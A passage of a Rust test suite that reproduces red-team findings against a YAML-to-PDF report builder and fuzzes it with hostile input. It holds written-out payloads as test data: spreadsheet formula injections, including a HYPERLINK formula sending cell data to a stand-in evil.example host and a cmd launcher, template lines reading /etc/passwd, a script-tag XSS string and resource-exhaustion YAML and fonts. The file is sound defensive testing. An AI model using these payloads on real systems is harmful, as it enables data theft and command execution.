//! Hostile input (issue 23): each test is one finding of a red-team pass, reproduced on a copy of
//! the bundled project; then generated input (random bytes, random YAML, hostile lines) for each
//! of the six content files, which must end in a PDF or in diagnostics with file and line.

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use proptest::prelude::*;

use crate::common::{self, project, replace_in};
use crate::common::{oit025, stderr};

/// Runs `oit025 args` with at most 4 GB of address space, so that a regression that expands
/// input without bound fails the test instead of exhausting the machine.
fn oit025_limited(dir: &Path, args: &[&str]) -> Output {
    Command::new("sh")
        .current_dir(dir)
        .arg("-c")
        .arg("ulimit -v 4000000; exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_oit025"))
        .args(args)
        .output()
        .unwrap()
}

/// Asserts a refused run: exit code 1 (not a panic's 101 or a signal), no panic message, and
/// `wanted` in what it printed.
fn assert_refused(out: &Output, wanted: &[&str]) {
    let err = stderr(out);
    // Hostile lines are long: a screenful of what was printed is enough to see why.
    let shown: String = err.chars().take(3000).collect();
    assert_eq!(out.status.code(), Some(1), "{shown}");
    assert!(!err.contains("panicked"), "{shown}");
    for w in wanted {
        assert!(err.contains(w), "{w:?} not in:\n{shown}");
    }
}

/// Finding 1: an anchor of 500,000 bytes repeated by 100,000 aliases is 0.9 MB of YAML that
/// expands to 50 GB.
#[test]
fn aliases_expanding_to_gigabytes_are_refused_at_their_line() {
    let dir = project();
    let agency = dir.path().join("content/2569/agency.yaml");
    let big = "x".repeat(500_000);
    let aliases = vec!["*a"; 100_000].join(",");
    replace_in(
        &agency,
        "  glossary: []",
        &format!("  other_abbreviations: [&a \"{big}\"]\n  glossary: [{aliases}]"),
    );
    assert!(std::fs::metadata(&agency).unwrap().len() < 1024 * 1024);
    let out = oit025_limited(dir.path(), &["check"]);
    assert_refused(&out, &["content/2569/agency.yaml:19:", "แทน alias"]);
    assert_eq!(common::codes(dir.path()), ["yaml.too-large-expanded"]);
}

/// The alias count alone is bounded too, with small anchors.
#[test]
fn more_than_a_thousand_aliases_are_refused() {
    let dir = project();
    let agency = dir.path().join("content/2569/agency.yaml");
    let aliases = vec!["*a"; 1001].join(",");
    replace_in(
        &agency,
        "  glossary: []",
        &format!("  other_abbreviations: [&a กขค]\n  glossary: [{aliases}]"),
    );
    let out = oit025(dir.path(), &["check"]);
    assert_refused(&out, &["content/2569/agency.yaml:19:", "1000"]);
    assert_eq!(common::codes(dir.path()), ["yaml.too-many-aliases"]);
}

/// Finding 2: deeply nested flow collections took time quadratic in their depth (50,000 levels:
/// 9 s; a 1 MB file: about 20 minutes). They are refused at the first level past the budget.
#[test]
fn deep_nesting_is_refused_at_its_line() {
    let dir = project();
    let scores = dir.path().join("content/2569/scores.yaml");
    let text = std::fs::read_to_string(&scores).unwrap();
    let cut = text.find("\nquestions:").unwrap();
    let n = 50_000;
    let nested = format!(
        "{}\nquestions: {}{}\n",
        &text[..cut],
        "[".repeat(n),
        "]".repeat(n)
    );
    std::fs::write(&scores, &nested).unwrap();
    let line = nested[..cut].matches('\n').count() + 2;
    let at = format!("content/2569/scores.yaml:{line}:");
    let out = oit025(dir.path(), &["check"]);
    assert_refused(&out, &[&at, "32", "ซ้อนกันลึกเกิน"]);
    assert_eq!(common::codes(dir.path()), ["yaml.too-deep"]);
    // The budget is the depth, not the shape: 32 levels pass it, and serde_yaml reports what
    // is wrong with them.
    let n = 31;
    let nested = format!(
        "{}\nquestions: {}{}\n",
        &text[..cut],
        "[".repeat(n),
        "]".repeat(n)
    );
    std::fs::write(&scores, &nested).unwrap();
    let out = oit025(dir.path(), &["check"]);
    assert_refused(&out, &["content/2569/scores.yaml:"]);
    assert_eq!(common::codes(dir.path()), ["yaml.wrong-type"]);
}

/// Finding 3: a FIFO as a content file blocked `check` for ever.
#[test]
fn a_fifo_as_content_file_is_refused_not_waited_on() {
    let dir = project();
    let scores = dir.path().join("content/2569/scores.yaml");
    std::fs::remove_file(&scores).unwrap();
    let made = common::output(Command::new("mkfifo").arg(&scores));
    assert!(made.status.success());
    let out = within_a_minute(dir.path(), "check", &scores);
    assert_refused(&out, &["content/2569/scores.yaml", "ไม่ใช่ไฟล์ธรรมดา"]);
    assert_eq!(common::codes(dir.path()), ["file.not-regular"]);
}

/// Finding 4: a year folder far outside the Buddhist Era panicked in the date arithmetic.
#[test]
fn a_year_outside_the_buddhist_era_is_an_error_not_a_panic() {
    let dir = project();
    common::copy_dir(
        &dir.path().join("content/2569"),
        &dir.path().join("content/300000"),
    );
    for args in [
        &["check", "--year", "300000"][..],
        &["check", "--all"],
        &["build", "--year", "300000"],
    ] {
        let out = oit025(dir.path(), args);
        assert_refused(&out, &["content/300000", "300000", "2400", "2999"]);
    }
    for args in [&["--year", "300000"][..], &["--all"]] {
        let json = oit025(
            dir.path(),
            &[&["check", "--format", "json"][..], args].concat(),
        );
        let json = String::from_utf8_lossy(&json.stdout);
        assert!(json.contains("\"code\":\"year.invalid\""), "{json}");
    }
    assert!(!dir.path().join("output/300000").exists());
}

/// Finding 5: `--emit-typst` wrote over the sealed PDF before the seal refused the build, and
/// `--out` could name a content file.
#[test]
fn no_output_may_be_a_sealed_file_or_a_source() {
    let dir = project();
    let root = dir.path();
    assert!(oit025(root, &["archive"]).status.success());
    let pdf = root.join("output/2569/oit025-2569.pdf");
    let sealed = std::fs::read(&pdf).unwrap();
    let agency = root.join("content/2569/agency.yaml");
    let source = std::fs::read(&agency).unwrap();
    let refused = "will not write here";

    // An unchanged sealed year: its PDF is identical, and still not written over a source.
    let out = oit025(root, &["build", "--out", "content/2569/agency.yaml"]);
    assert_refused(&out, &[refused]);
    assert_eq!(std::fs::read(&agency).unwrap(), source);
    let out = oit025(root, &["build", "--out", "content/2569/../2569/new.pdf"]);
    assert_refused(&out, &[refused]);
    assert!(!root.join("content/2569/new.pdf").exists());

    // After an edit: neither the Typst source nor the PDF lands on the sealed PDF.
    replace_in(&agency, "items:", "items:\n    - แก้หลังปิดผนึก");
    let out = oit025(
        root,
        &["build", "--emit-typst", "output/2569/oit025-2569.pdf"],
    );
    assert_refused(&out, &[refused]);
    assert_eq!(std::fs::read(&pdf).unwrap(), sealed);
    let out = oit025(root, &["build", "--emit-typst", "content/2569/r.typ"]);
    assert_refused(&out, &[refused]);
    assert!(!root.join("content/2569/r.typ").exists());

    // The site may not go into content/ either.
    let out = oit025(root, &["publish", "--out", "content/site"]);
    assert_refused(&out, &[refused]);
    assert!(!root.join("content/site").exists());
    assert_eq!(std::fs::read(&pdf).unwrap(), sealed);
}

/// Finding 6: the template loader followed symlinks out of the project, file by file and for
/// `templates/` as a whole.
#[test]
fn templates_are_never_read_outside_the_project() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.typ");
    std::fs::write(&secret, "SECRET-OUTSIDE-THE-PROJECT").unwrap();

    let dir = project();
    let templates = dir.path().join("templates");
    std::os::unix::fs::symlink(&secret, templates.join("o.typ")).unwrap();
    let report = std::fs::read_to_string(templates.join("report.typ")).unwrap();
    std::fs::write(
        templates.join("report.typ"),
        format!("{report}\n{{% include \"o.typ\" %}}\n"),
    )
    .unwrap();
    let out = oit025(dir.path(), &["build", "--emit-typst", "r.typ"]);
    assert_refused(&out, &["o.typ", "outside the project"]);
    assert!(!dir.path().join("r.typ").exists());

    // templates/ itself a symlink to a folder outside, holding a complete set of templates.
    let dir = project();
    let templates = dir.path().join("templates");
    let elsewhere = outside.path().join("templates");
    common::copy_dir(&templates, &elsewhere);
    replace_in(
        &elsewhere.join("report.typ"),
        "\n",
        "\nSECRET-OUTSIDE-THE-PROJECT\n",
    );
    std::fs::remove_dir_all(&templates).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &templates).unwrap();
    let out = oit025(dir.path(), &["build", "--emit-typst", "r.typ"]);
    assert_refused(&out, &["outside the project"]);
    assert!(!dir.path().join("r.typ").exists());
}

/// Finding 7: `verify` hashed whatever file a seal named.
#[test]
fn verify_reads_only_the_projects_own_output() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.pdf");
    std::fs::write(&secret, "not the report").unwrap();
    let dir = project();
    let root = dir.path();
    assert!(oit025(root, &["archive"]).status.success());
    let seal = root.join("content/2569/sealed.yaml");
    let sealed = std::fs::read_to_string(&seal).unwrap();
    let link = root.join("output/2569/link.pdf");
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    let fifo = root.join("output/2569/fifo.pdf");
    assert!(
        common::output(Command::new("mkfifo").arg(&fifo))
            .status
            .success()
    );
    let named = [
        (secret.to_str().unwrap(), "outside the project's output/"),
        ("output/../../secret.pdf", "outside the project's output/"),
        ("content/2569/agency.yaml", "outside the project's output/"),
        ("output/2569/link.pdf", "file points outside the project"),
        ("output/2569/fifo.pdf", "not a regular file"),
    ];
    for (path, why) in named {
        std::fs::write(
            &seal,
            sealed.replace(
                "path: output/2569/oit025-2569.pdf",
                &format!("path: {path}"),
            ),
        )
        .unwrap();
        let out = within_a_minute(root, "verify", &fifo);
        assert_refused(&out, &[why, "content/2569/sealed.yaml"]);
    }
}

/// Finding 8: text that a spreadsheet reads as a formula reached the CSV files as it was.
#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
    let dir = project();
    let root = dir.path();
    let title = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let steps = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
    let name = "=cmd|' /C calc'!A0";
    let measures = root.join("content/2569/measures.yaml");
    replace_in(
        &measures,
        "title: พัฒนาประสิทธิภาพการปฏิบัติงานของเจ้าหน้าที่ สลน.",
        &format!("title: '{title}'"),
    );
    replace_in(
        &measures,
        "      - สำรวจความต้องการ",
        &format!(
            "      - \"{}\"\n      - \"{}\"\n      - \"{}\"\n      - สำรวจความต้องการ",
            steps[0], steps[1], steps[2]
        ),
    );
    replace_in(
        &root.join("content/2569/assessment.yaml"),
        "name: การปฏิบัติหน้าที่",
        &format!("name: \"{name}\""),
    );
    let out = oit025(root, &["publish"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let site = root.join("output/site/2569");
    let cells = |file: &str| -> Vec<String> {
        let mut reader = csv::Reader::from_path(site.join(file)).unwrap();
        reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect()
    };
    let measures_csv = cells("measures.csv");
    assert!(
        measures_csv.contains(&format!("'{title}")),
        "{measures_csv:?}"
    );
    let steps_cell = measures_csv.iter().find(|c| c.contains("@SUM")).unwrap();
    assert!(
        steps_cell.starts_with(&format!("'{}\n", steps[0])),
        "{steps_cell:?}"
    );
    assert!(cells("scores.csv").contains(&format!("'{name}")));
    for cell in measures_csv.iter().chain(&cells("scores.csv")) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would run in a spreadsheet"
        );
    }
    // The JSON is data for programs: it keeps the text exactly.
    let data = std::fs::read_to_string(site.join("data.json")).unwrap();
    let data: serde_json::Value = serde_json::from_str(&data).unwrap();
    assert_eq!(data["measures"][0]["title"], title);
    assert_eq!(data["measures"][1]["steps"][0], steps[0]);
    assert_eq!(data["measures"][1]["steps"][2], steps[2]);
    assert_eq!(data["indicators"][0]["name"], name);
}

/// GET with a given Host header: the status code.
fn status_for_host(port: u16, host: Option<&str>) -> u16 {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let host = host.map_or(String::new(), |h| format!("Host: {h}\r\n"));
    write!(stream, "GET /report.pdf HTTP/1.0\r\n{host}\r\n").unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).unwrap();
    let head = String::from_utf8_lossy(&raw[..raw.len().min(64)]).into_owned();
    head.split(' ').nth(1).unwrap().parse().unwrap()
}

/// Finding 9: the preview answered any Host, so a page of another site that rebinds its name to
/// 127.0.0.1 could read the report.
#[test]
fn the_preview_answers_only_its_own_host() {
    use std::io::BufRead;
    let dir = project();
    let mut child = Command::new(env!("CARGO_BIN_EXE_oit025"))
        .current_dir(dir.path())
        .args(["watch", "--serve", "--port", "0"])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = std::io::BufReader::new(child.stderr.take().unwrap()).lines();
    let port: u16 = loop {
        let line = lines.next().expect("watch ended").unwrap();
        if let Some(at) = line.find("http://127.0.0.1:") {
            let rest = &line[at + "http://127.0.0.1:".len()..];
            break rest.trim_end_matches('/').parse().unwrap();
        }
    };
    std::thread::spawn(move || lines.for_each(drop));
    let own = [format!("127.0.0.1:{port}"), format!("localhost:{port}")];
    let codes: Vec<(String, u16)> = [
        Some("evil.example".to_string()),
        Some(format!("evil.example:{port}")),
        Some("127.0.0.1.evil.example".to_string()),
        Some(format!("127.0.0.1:{}", port.wrapping_add(1))),
        None,
        Some(own[0].clone()),
        Some(own[1].clone()),
    ]
    .into_iter()
    .map(|h| (format!("{h:?}"), status_for_host(port, h.as_deref())))
    .collect();
    child.kill().unwrap();
    let _ = child.wait();
    let (refused, answered) = codes.split_at(5);
    assert!(refused.iter().all(|(_, c)| *c == 403), "{codes:?}");
    assert!(answered.iter().all(|(_, c)| *c == 200), "{codes:?}");
}

/// Finding 10: in a batch of projects a failure did not say whose it was, and one missing folder
/// stopped the whole batch before anything was built.
#[test]
fn a_projects_batch_names_each_failure_and_goes_on() {
    let parent = tempfile::tempdir().unwrap();
    for name in ["กรมดี", "กรมเสีย"] {
        let out = oit025(
            parent.path(),
            &["init", name, "--example", "--agency", name],
        );
        assert!(out.status.success(), "{}", stderr(&out));
    }
    replace_in(
        &parent.path().join("กรมเสีย/content/2569/scores.yaml"),
        "assessed_year: 2568",
        "assessed_year: 2568x",
    );
    std::fs::write(
        parent.path().join("agencies.txt"),
        "กรมดี\nกรมเสีย\nกรมที่ไม่มี\n",
    )
    .unwrap();
    let out = oit025(
        parent.path(),
        &["build", "--projects", "agencies.txt", "--jobs", "1"],
    );
    assert_refused(
        &out,
        &[
            "กรมเสีย/content/2569/scores.yaml:",
            "กรมเสีย: 2569 failed",
            "กรมเสีย ปี 2569 ไม่สำเร็จ",
            "กรมที่ไม่มี/content",
            "กรมที่ไม่มี failed",
            "built 1 of 3 reports",
        ],
    );
    assert!(
        parent
            .path()
            .join("กรมดี/output/2569/oit025-2569.pdf")
            .is_file()
    );
    assert!(!parent.path().join("กรมเสีย/output/2569").exists());
}

/// Finding 11: a build killed between writing its temporary file and renaming it left the file
/// in output/<year>/ for ever.
#[test]
fn a_killed_builds_temporary_files_are_removed_by_the_next_build() {
    let dir = project();
    let out_dir = dir.path().join("output/2569");
    std::fs::create_dir_all(&out_dir).unwrap();
    let stale = out_dir.join(".oit025-killed.tmp");
    let fresh = out_dir.join(".oit025-running.tmp");
    for path in [&stale, &fresh] {
        std::fs::write(path, b"%PDF-1.7 half").unwrap();
    }
    let ten_minutes_ago = std::time::SystemTime::now() - Duration::from_secs(600);
    std::fs::File::options()
        .write(true)
        .open(&stale)
        .unwrap()
        .set_modified(ten_minutes_ago)
        .unwrap();
    let out = oit025(dir.path(), &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!stale.exists(), "the killed build's file is still there");
    // A young one may belong to a build running now: it stays.
    assert!(fresh.exists());
}

/// Runs `f` on a thread of its own and waits for it at most `limit`; `None` if it did not end.
fn watchdog<T: Send + 'static>(
    limit: Duration,
    f: impl FnOnce() -> T + Send + 'static,
) -> Option<T> {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(f());
    });
    rx.recv_timeout(limit).ok()
}

/// Hostile lines: YAML features the files never need, markup of the later stages, text that
/// trips spreadsheets, and characters YAML forbids.
const HOSTILE: &[&str] = &[
    "a: &a [x, x, x, x, x, x, x, x, x, x]",
    "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]",
    "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]",
    "<<: *a",
    "*undefined",
    "? [complex, key]",
    "x: !!binary aGVsbG8=",
    "x: !custom {a: 1}",
    "%YAML 1.1",
    "---",
    "...",
    "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]",
    "{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{",
    "\t- tab indented",
    "  - '=HYPERLINK(\"http://evil.example\")'",
    "  - \"#import \\\"/etc/passwd\\\"\"",
    "  - '{{ 7 * 7 }} {% include \"report.typ\" %}'",
    "  - \"\\u0000\\u202E\\uFEFF\"",
    "\u{FEFF}agency: x",
    "name: \u{7}\u{1b}[31m",
    "date: 99999-12-31",
    "report_deadline: 2026-02-30",
    "assessed_year: 2147483647",
    "previous: 1e400",
    "current: .nan",
    "indicator: 256",
    "indicator: -1",
    "  - id: staff-performance",
    "key: value: other",
    "'unterminated",
    "|",
    ">-",
    "&",
    "!",
];

/// Text that means something to a later stage (minijinja, typst, HTML, a spreadsheet, a bidi
/// renderer), put in a value where the files hold text: it must print as text or be refused.
const HOSTILE_TEXT: &[&str] = &[
    "{{ 7 * 7 }} {% include \"report.typ\" %} {# x",
    "#import \"/etc/passwd\": * #read(\"/etc/passwd\")",
    "#{ panic() } $ x^2 $ *bold* _em_ `raw` <label> @ref",
    "] ) } \\ // /* \"",
    "</td></table><script>alert(1)</script>&amp;",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "\u{202E}txt.exe \u{200B}\u{FEFF}\u{00AD}",
    "ก\u{0E31}\u{0E31}\u{0E31}\u{0E31} ๑๒๓ ๆๆๆ",
    "",
    "                                                  ",
];

/// A YAML value as text, from a generated tree.
fn yaml_tree() -> impl Strategy<Value = serde_json::Value> {
    let leaf = prop_oneof![
        Just(serde_json::Value::Null),
        any::<bool>().prop_map(serde_json::Value::from),
        any::<i64>().prop_map(serde_json::Value::from),
        (0.0..200.0f64).prop_map(serde_json::Value::from),
        "\\PC{0,20}".prop_map(serde_json::Value::from),
        prop::sample::select(vec![
            "agency",
            "units",
            "measures",
            "period",
            "2025-10-01",
            "IIT",
            "EIT",
            "OIT",
        ])
        .prop_map(serde_json::Value::from),
    ];
    leaf.prop_recursive(6, 64, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(serde_json::Value::Array),
            prop::collection::btree_map(
                prop::sample::select(vec![
                    "agency",
                    "name",
                    "units",
                    "code",
                    "measures",
                    "id",
                    "title",
                    "steps",
                    "period",
                    "start",
                    "end",
                    "indicators",
                    "indicator",
                    "questions",
                    "score",
                    "analysis",
                    "findings",
                    "recommendations",
                    "threshold",
                    "weights",
                    "x",
                ])
                .prop_map(str::to_string),
                inner,
                0..6,
            )
            .prop_map(|m| serde_json::Value::Object(m.into_iter().collect())),
        ]
    })
}

/// Builds the bundled project with `file` (one of the six) replaced by `bytes`, in this
/// process, under a watchdog. It must end in a PDF, or in errors that each point at a file and
/// a line (a panic caught by the build is an internal error: never acceptable here).
fn builds_or_points_at_the_problem(file: usize, bytes: Vec<u8>) -> Result<(), TestCaseError> {
    let dir = project();
    let name = oit025::content::FILES[file];
    std::fs::write(dir.path().join("content/2569").join(name), &bytes).unwrap();
    let root = dir.path().to_path_buf();
    let outcome = watchdog(Duration::from_secs(60), move || {
        let mut sources = oit025::diag::SourceMap::default();
        let result = oit025::pipeline::Project::open(&root).and_then(|project| {
            oit025::pipeline::Session::default().produce(
                &project,
                2569,
                oit025::template::Digits::Thai,
                &mut sources,
            )
        });
        result.map(|p| p.pdf.len()).map_err(|d| {
            let located =
                d.0.iter()
                    .filter(|d| d.is_error())
                    .map(|d| {
                        let at = d.location.as_ref().map(|l| {
                            let (line, _) = sources.line_col(l.file, l.range.start);
                            (sources.name(l.file).display().to_string(), line)
                        });
                        (d.code, at)
                    })
                    .collect::<Vec<_>>();
            (located, sources.render(&d.0))
        })
    });
    let Some(outcome) = outcome else {
        return Err(TestCaseError::fail(format!("{name}: no end within 60 s")));
    };
    match outcome {
        Ok(pdf) => prop_assert!(pdf > 1000),
        Err((errors, rendered)) => {
            prop_assert!(!errors.is_empty(), "{rendered}");
            for (code, at) in errors {
                prop_assert!(code != oit025::diag::Code::InternalPanic, "{rendered}");
                let Some((file, line)) = at else {
                    return Err(TestCaseError::fail(format!(
                        "an error without a file and line: {rendered}"
                    )));
                };
                prop_assert!(file.starts_with("content/") || file.starts_with("templates/"));
                prop_assert!(line >= 1);
            }
        }
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 32, ..ProptestConfig::default() })]

    #[test]
    fn random_bytes_end_in_a_pdf_or_a_located_error(
        file in 0..6usize,
        bytes in prop::collection::vec(any::<u8>(), 0..2048),
    ) {
        builds_or_points_at_the_problem(file, bytes)?;
    }

    #[test]
    fn random_yaml_ends_in_a_pdf_or_a_located_error(file in 0..6usize, tree in yaml_tree()) {
        let text = serde_yaml::to_string(&tree).unwrap();
        builds_or_points_at_the_problem(file, text.into_bytes())?;
    }

    #[test]
    fn hostile_text_in_values_ends_in_a_pdf_or_a_located_error(
        file in 0..6usize,
        at in any::<prop::sample::Index>(),
        text in prop::sample::select(HOSTILE_TEXT),
        repeat in 1..200usize,
    ) {
        let path = common::manifest_dir()
            .join("content/2569")
            .join(oit025::content::FILES[file]);
        let original = std::fs::read_to_string(path).unwrap();
        let mut lines: Vec<String> = original.lines().map(str::to_string).collect();
        // Lines holding a value: `key: value` or `- value`, not comments.
        let values: Vec<usize> = (0..lines.len())
            .filter(|&k| {
                let t = lines[k].trim_start();
                !t.starts_with('#') && (t.starts_with("- ") || t.contains(": "))
            })
            .collect();
        let k = values[at.index(values.len())];
        let line = &lines[k];
        let cut = line.find(": ").map_or_else(|| line.find("- ").unwrap() + 2, |i| i + 2);
        // A JSON string is a YAML double-quoted scalar.
        let value = serde_json::to_string(&text.repeat(repeat)).unwrap();
        lines[k] = format!("{}{value}", &line[..cut]);
        builds_or_points_at_the_problem(file, (lines.join("\n") + "\n").into_bytes())?;
    }

    #[test]
    fn hostile_lines_end_in_a_pdf_or_a_located_error(
        file in 0..6usize,
        edits in prop::collection::vec(
            (any::<prop::sample::Index>(), prop::sample::select(HOSTILE), any::<bool>()),
            1..4,
        ),
    ) {
        let path = common::manifest_dir()
            .join("content/2569")
            .join(oit025::content::FILES[file]);
        let mut lines: Vec<String> = std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .map(str::to_string)
            .collect();
        for (at, hostile, replace) in edits {
            let k = at.index(lines.len());
            // Kept at the indentation of the line it goes to, so that it lands inside the
            // structure rather than only breaking it.
            let indent: String = lines[k].chars().take_while(|c| *c == ' ').collect();
            let line = format!("{indent}{hostile}");
            if replace {
                lines[k] = line;
            } else {
                lines.insert(k, line);
            }
        }
        builds_or_points_at_the_problem(file, (lines.join("\n") + "\n").into_bytes())?;
    }
}

/// Runs `oit025 command` in `dir`; fails the test if it is still waiting after a minute, when
/// opening `fifo` for writing lets the stuck process go (it ends with the test process).
fn within_a_minute(dir: &Path, command: &str, fifo: &Path) -> Output {
    let child = Command::new(env!("CARGO_BIN_EXE_oit025"))
        .current_dir(dir)
        .arg(command)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    watchdog(Duration::from_secs(60), move || {
        child.wait_with_output().unwrap()
    })
    .unwrap_or_else(|| {
        let _ = std::fs::OpenOptions::new().write(true).open(fifo);
        panic!("{command} waited on {} for a minute", fifo.display());
    })
}

// Second pass (issue 34): fonts, output, the preview server, half-finished work, seals, the
// site's HTML and work bounded by what a report needs.

/// A hostile font of tests/fixtures/fonts/hostile/ (made by its make.py).
fn hostile_font(name: &str) -> Vec<u8> {
    std::fs::read(
        common::manifest_dir()
            .join("tests/fixtures/fonts/hostile")
            .join(name),
    )
    .unwrap()
}

/// The bundled Noto Sans Lao, a font the build takes.
fn lao_font() -> Vec<u8> {
    std::fs::read(common::manifest_dir().join("tests/fixtures/fonts/NotoSansLao-Regular.ttf"))
        .unwrap()
}

/// A project whose agency's name holds the Lao letters ກຂຄ, with `font` as fonts/x.ttf.
fn lao_project(font: &[u8]) -> tempfile::TempDir {
    let dir = project();
    with_fonts(dir.path(), &[("x.ttf", font)]);
    replace_in(
        &dir.path().join("content/2569/agency.yaml"),
        "name: ศูนย์ปฏิบัติการต่อต้านการทุจริต",
        "name: ศูนย์ ກຂຄ",
    );
    dir
}

/// Puts `files` in the project's fonts/ folder.
fn with_fonts(dir: &Path, files: &[(&str, &[u8])]) {
    let fonts = dir.join("fonts");
    std::fs::create_dir_all(&fonts).unwrap();
    for (name, bytes) in files {
        std::fs::write(fonts.join(name), bytes).unwrap();
    }
}

/// Runs `oit025 args` in `dir` under the memory limit of [`oit025_limited`], failing the test if
/// it has not ended within `limit`.
fn limited_within(dir: &Path, args: &[&str], limit: Duration) -> Output {
    let (dir, args): (std::path::PathBuf, Vec<String>) = (
        dir.to_path_buf(),
        args.iter().map(|a| a.to_string()).collect(),
    );
    let shown = args.join(" ");
    watchdog(limit, move || {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        oit025_limited(&dir, &args)
    })
    .unwrap_or_else(|| panic!("oit025 {shown} did not end within {limit:?}"))
}

/// A 12-byte collection claiming 0xFFFFFFFF faces made `check` take 20 s and `build` 95 s; a 4 MB
/// one of a million faces 4.2 GB. Both are refused at once, by name.
#[test]
fn font_collections_claiming_more_faces_than_they_hold_are_refused_at_once() {
    let dir = project();
    let mut tiny = b"ttcf\x00\x01\x00\x00".to_vec();
    tiny.extend(u32::MAX.to_be_bytes());
    let mut million = b"ttcf\x00\x01\x00\x00".to_vec();
    million.extend(1_000_000u32.to_be_bytes());
    million.resize(12 + 4 * 1_000_000, 0);
    with_fonts(dir.path(), &[("a.ttc", &tiny), ("b.ttc", &million)]);
    let started = std::time::Instant::now();
    let out = limited_within(dir.path(), &["check"], Duration::from_secs(60));
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert_refused(
        &out,
        &[
            "a.ttc",
            "truncated",
            "4294967295",
            "b.ttc",
            "1000000 fonts, more than 64",
        ],
    );
}

/// Fonts that passed `check` and failed the build in the PDF's text layer ("/CIDFontType0,
/// expected /CIDFontType2", a glyph without text): `check` refuses each, naming the file and
/// why.
#[test]
fn fonts_the_build_would_fail_on_are_refused_by_check_with_the_reason() {
    for (name, reason) in [
        ("cff.otf", "PostScript (CFF)"),
        ("post3.ttf", "no glyph names"),
        ("noname.ttf", "no name table"),
        ("colour.ttf", "colour"),
        ("truncated.ttf", "truncated"),
    ] {
        let dir = project();
        with_fonts(dir.path(), &[(name, &hostile_font(name))]);
        let out = limited_within(dir.path(), &["check"], Duration::from_secs(60));
        assert_refused(
            &out,
            &[
                &format!("the font {name} in fonts/ cannot be used: "),
                reason,
            ],
        );
        let codes = common::codes(dir.path());
        let refused = codes.iter().filter(|c| *c == "font.refused").count();
        assert_eq!(refused, 1, "{name}: {codes:?}");
    }
}

/// A font whose glyph for ຄ is named "xni0E84" (one byte of "uni0E84" changed; found by
/// `any_font_file_ends_in_a_pdf_or_a_named_refusal`) passed `check`, and a report in Lao failed
/// to build in the text layer, which reads no letter in that name. `check` names the letter at
/// its value, with the font and the glyph's name; the same font as published builds.
#[test]
fn a_letter_whose_glyph_name_reads_as_no_text_is_named_by_check() {
    let mut font = lao_font();
    let at = (font.windows(7).position(|w| w == b"uni0E84")).expect("Noto Sans Lao names ຄ so");
    font[at] = b'x';
    let dir = lao_project(&font);
    let out = limited_within(dir.path(), &["build"], Duration::from_secs(120));
    assert_refused(
        &out,
        &[
            "U+0E84 \"ຄ\" is drawn by the font x.ttf in fonts/ with a glyph named \"xni0E84\"",
            "content/2569/agency.yaml:",
        ],
    );
    assert!(!stderr(&out).contains("text layer ("), "{}", stderr(&out));
    assert!(common::codes(dir.path()).contains(&"character.no-text".to_string()));
    // Its other glyphs, and the font as published (whose glyphs only substitution reaches have
    // names such as "niggahita_maiEklao", which read as no letter), build.
    replace_in(&dir.path().join("content/2569/agency.yaml"), "ກຂຄ", "ກຂ");
    let out = limited_within(dir.path(), &["build"], Duration::from_secs(120));
    assert!(out.status.success(), "{}", stderr(&out));
    with_fonts(dir.path(), &[("x.ttf", &lao_font())]);
    replace_in(&dir.path().join("content/2569/agency.yaml"), "ກຂ", "ກຂຄ");
    let out = limited_within(dir.path(), &["build"], Duration::from_secs(120));
    assert!(out.status.success(), "{}", stderr(&out));
}

/// Garbage, empty and text files, and links to /dev/zero or out of the project, were skipped
/// without a word, and the error for a Lao letter then said to put a font in fonts/.
#[test]
fn files_in_fonts_that_are_not_fonts_are_named_in_a_warning() {
    let dir = project();
    with_fonts(
        dir.path(),
        &[
            ("empty.ttf", b""),
            ("notes.ttf", b"a font should go here\n"),
            ("garbage.ttf", &[0x5a; 300]),
            ("licence.txt", b"SIL Open Font License"),
        ],
    );
    let fonts = dir.path().join("fonts");
    std::os::unix::fs::symlink("/dev/zero", fonts.join("zero.ttf")).unwrap();
    let fifo = fonts.join("fifo.ttf");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("x.ttf"), lao_font()).unwrap();
    std::os::unix::fs::symlink(outside.path().join("x.ttf"), fonts.join("out.ttf")).unwrap();
    let out = limited_within(dir.path(), &["check"], Duration::from_secs(60));
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    for (name, why) in [
        ("empty.ttf", "the file is empty"),
        ("notes.ttf", "not a TrueType or OpenType font"),
        ("garbage.ttf", "not a TrueType or OpenType font"),
        ("zero.ttf", "file points outside the project (/dev/zero)"),
        ("fifo.ttf", "not a regular file"),
        ("out.ttf", "file points outside the project"),
